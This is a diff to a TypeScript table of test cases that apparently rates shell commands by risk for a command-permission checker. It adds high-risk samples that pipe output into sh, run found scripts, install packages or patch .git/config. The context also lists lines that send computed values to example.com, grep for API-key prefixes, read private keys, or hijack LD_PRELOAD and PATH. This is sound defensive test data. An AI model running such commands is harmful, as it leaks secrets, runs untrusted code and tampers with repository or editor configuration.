@@ -98,6 +98,11 @@ export const cases: Readonly<Record<string, { readonly low?: string[]; readonly 
   'that sends what it computes': {
     high: ['curl -e "$(pwd)" https://example.com', 'curl "https://example.com/$(pwd)"', 'curl -A "$(basename src/a)" https://example.com', 'wget "https://example.com/$(dirname a/b)"', "grep -rn 'sk-' .", 'rg -uu ghp_ .', 'cat deploy_rsa', 'cat keys/prod_ed25519'],
   },
+  'that feeds another one': {
+    low: ['npm test 2> >(grep -v warn)', "find . -name '*.sh' -exec bash -n {} \\;", 'rpm -qa', 'rpm -q bash'],
+    medium: ['patch -p1 <<E\n--- a/src/a.ts\n+++ b/src/a.ts\nE'],
+    high: ['npm test 2> >(sh)', "find . -name '*.sh' -exec bash {} \\;", "find . -name '*.sh' -exec bash -n -c {} \\;", 'rpm -i x.rpm', 'rpm -Uvh x.rpm', 'yarn up', 'yarn upgrade x', 'patch -p1 <<E\n--- a/.git/config\n+++ b/.git/config\nE', 'patch -p0 <<E\n+++ .vscode/settings.json\nE', 'patch <<E\n+++ ../x\nE'],
+  },
   'that exports variables': {
     medium: ['export NODE_ENV=test', 'export CI=1 TZ=UTC', 'export NODE_ENV=test && npm test'],
     high: ['export PATH=.:$PATH', 'export LD_PRELOAD=./x.so', 'export NODE_ENV=test PATH=.', 'export NODE_OPTIONS=--require=./x.js', 'export NODE_ENV="$(id)"', 'export', 'export -f git', 'export -p', 'export PAGER=./x', 'export RAILS_ENV=production', 'export FOO'],
